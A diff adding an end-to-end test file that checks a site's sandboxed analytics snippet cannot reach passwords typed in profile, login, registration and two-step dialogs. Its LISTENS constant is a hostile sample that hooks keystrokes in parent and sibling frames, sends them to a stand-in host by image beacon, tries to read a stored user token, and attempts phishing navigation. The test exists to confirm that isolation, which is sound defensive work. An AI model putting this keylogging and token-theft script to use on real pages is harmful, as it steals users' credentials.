@@ -1,0 +1,154 @@
+import type { Page } from 'playwright-core';
+import { afterAll, expect, test } from 'vitest';
+import { newPerson } from './account-people.ts';
+import { eventually, keeperOf, ready } from './public-site.ts';
+import { startSite } from './support/site.ts';
+
+const site = await startSite();
+const { visit, visitAs, address } = site;
+const keeper = keeperOf(site);
+const setSnippet = (snippet: string) => keeper.set({ 'system.analytics': snippet });
+afterAll(() => setSnippet(''));
+
+/** What the snippet sends to its own host. */
+async function collectBeacons(page: Page) {
+  const beacons: string[] = [];
+  await page.context().route('https://counter.example/**', async (route) => {
+    const url = new URL(route.request().url());
+    if (url.pathname === '/external.js')
+      return route.fulfill({
+        contentType: 'text/javascript',
+        body: `new Image().src = 'https://counter.example/beacon?external-' + document.currentScript.dataset.id;`,
+      });
+    beacons.push(decodeURIComponent(url.search.slice(1)));
+    return route.fulfill({ status: 200, contentType: 'image/gif', body: '' });
+  });
+  return beacons;
+}
+
+/** The state of the snippet in its frame; null when no frame is open. */
+async function snippetState(page: Page) {
+  const frame = page.frames().find((each) => each.url().startsWith(`${address}/analytics/`));
+  if (!frame) return null;
+  return frame.evaluate(() => {
+    const { runs = 0, _hmt = [] } = window as { runs?: number; _hmt?: string[][] };
+    return { runs, pages: _hmt.map(([, path]) => path) };
+  });
+}
+
+test('the analytics script runs once on the first public page, then each path is recorded', async () => {
+  await setSnippet('<script>window.runs = (window.runs || 0) + 1; window._hmt = [];</script>');
+  const page = await visit('/login');
+  expect(await snippetState(page)).toBeNull();
+  await page.getByRole('banner').getByRole('link', { name: '首页' }).click();
+  await eventually(() => snippetState(page)).toEqual({ runs: 1, pages: [] });
+  await page.getByRole('banner').getByRole('link', { name: '学术论文' }).click();
+  await page.waitForURL('**/category/*');
+  const { pathname } = new URL(page.url());
+  await eventually(() => snippetState(page)).toEqual({ runs: 1, pages: [pathname] });
+  await page.getByRole('banner').getByRole('link', { name: '登录' }).click();
+  await page.waitForURL(`${address}/login?redirect=${encodeURIComponent(pathname)}`);
+  await eventually(() => snippetState(page)).toBeNull();
+});
+
+test('an analytics script with an external source runs, with its attributes, beside inline code', async () => {
+  await setSnippet(
+    `<script async src="https://counter.example/external.js" data-id="7"></script>
+     <script>
+       document.cookie = 'a=1; path=/';
+       localStorage.setItem('b', '2');
+       new Image().src = 'https://counter.example/beacon?inline-' + document.cookie + localStorage.getItem('b');
+     </script>`,
+  );
+  const page = await visit('about:blank');
+  const beacons = await collectBeacons(page);
+  await page.goto('/');
+  await eventually(() => [...beacons].sort()).toEqual(['external-7', 'inline-a=12']);
+});
+
+/** Tries each way to a password or token that a script on the page itself would have. */
+const LISTENS = `
+
+  const send = (text) => { new Image().src = 'https://counter.example/beacon?' + encodeURIComponent(text); };
+  const listen = (target, name) => {
+    for (const type of ['keydown', 'keypress', 'input', 'change', 'paste'])
+      target.addEventListener(type, (event) => send(name + ':' + (event.key ?? '') + (event.target.value ?? '')), true);
+  };
+  for (const [name, find] of [
+    ['parent', () => parent.document], ['top', () => top], ['opener', () => opener.document],
+    ['sibling', () => parent.frames[1].document], ['self', () => window],
+  ])
+    try { listen(find(), name); } catch { send('refused:' + name); }
+  try { send('token:' + parent.localStorage.getItem('douku:user')); } catch { send('refused:storage'); }
+  try { top.location = '/analytics/phishing'; } catch { send('refused:navigation'); }
+  try { if (window.open('/login') === null) send('refused:popup'); } catch { send('refused:popup'); }
+  send('started');`;
+const TAKES_FOCUS = `
+  const input = document.createElement('input');
+  document.documentElement.append(input);
+  setInterval(() => { window.focus(); input.focus(); }, 5);`;
+
+const SECRET = 'sesame-open-4711';
+
+test.each([
+  ['reads the page', 'page-reader', LISTENS],
+  ['takes the keyboard focus', 'focus-taker', LISTENS + TAKES_FOCUS],
+])(
+  'an analytics script that %s captures no password typed in a dialog or on any page',
+  async (_, name, code) => {
+    await setSnippet(`<script>${code}</script>`);
+    const person = await newPerson(site, name);
+    const page = await visitAs(await person.enter(), 'about:blank');
+    const beacons = await collectBeacons(page);
+    const type = async (field: ReturnType<Page['getByLabel']>) => {
+      await field.click();
+      await page.keyboard.type(SECRET, { delay: 10 });
+      expect(await field.inputValue()).toBe(SECRET);
+    };
+    await page.goto(`/user/${person.id}`);
+    await ready(page);
+    await eventually(() => beacons).toContain('started');
+    await page.getByRole('main').getByRole('button', { name: '个人资料' }).click();
+    const dialog = page.getByRole('dialog', { name: '个人资料' });
+    await dialog.getByRole('tab', { name: '修改密码' }).click();
+    for (const label of ['原密码', '新密码', '确认密码'])
+      await type(dialog.getByLabel(label, { exact: true }));
+    await dialog.getByRole('tab', { name: '修改资料' }).click();
+    await dialog.getByLabel('联系邮箱').fill('other@mail.example');
+    await type(dialog.getByLabel('登录密码'));
+    await page.keyboard.press('Escape');
+    await dialog.waitFor({ state: 'detached' });
+    await page.getByRole('link', { name: '账户安全' }).click();
+    await page.waitForURL('**/security');
+    await page.getByRole('button', { name: '开启两步验证' }).click();
+    await type(page.locator('input[type=password]').first());
+
+    const visitor = await visit('about:blank');
+    const visitorBeacons = await collectBeacons(visitor);
+    await visitor.goto('/');
+    await eventually(() => visitorBeacons).toContain('started');
+    const typeSecret = async () => {
+      const field = visitor.locator('input[type=password]').first();
+      await field.click();
+      await visitor.keyboard.type(SECRET, { delay: 10 });
+      expect(await field.inputValue()).toBe(SECRET);
+    };
+    await visitor.getByRole('banner').getByRole('link', { name: '登录' }).click();
+    await typeSecret();
+    await visitor.getByRole('main').getByRole('link', { name: '注册' }).click();
+    await visitor.waitForURL('**/register');
+    await typeSecret();
+    const sent = [...beacons, ...visitorBeacons].filter(
+      (text) => !/^(refused:|started$)/.test(text),
+    );
+    expect(sent).toEqual([]);
+  },
+);
+
+test('the document of the analytics script stays isolated when it is opened outside of a frame', async () => {
+  await setSnippet(
+    `<script>try { window.result = parent.origin + parent.document.URL; } catch (error) { window.result = String(error); }</script>`,
+  );
+  const page = await visit('/analytics/');
+  expect(await page.evaluate(() => window.origin)).toBe('null');
+});
